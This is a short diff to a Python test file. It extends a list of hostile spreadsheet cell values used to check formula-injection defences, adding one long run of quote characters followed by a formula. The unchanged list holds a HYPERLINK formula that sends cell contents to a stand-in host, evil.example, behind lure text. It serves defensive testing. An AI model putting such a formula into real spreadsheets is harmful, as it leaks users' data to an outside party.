@@ -32,7 +32,8 @@ def test_inside_refuses_paths_that_escape(parts, tmp_path):
 # ---------------------------------------------------------------- spreadsheets (formula injection)
 
 HOSTILE_CELLS = ['=HYPERLINK("https://evil.example/?d="&C2&D2,"Click for the full statement")', "+1+1",
-                 "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "plain", "-5", "+1.5e3", ""]
+                 "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "plain", "-5", "+1.5e3", "",
+                 "'" * 5000 + "=1"]
 
 
 def hostile_frame():
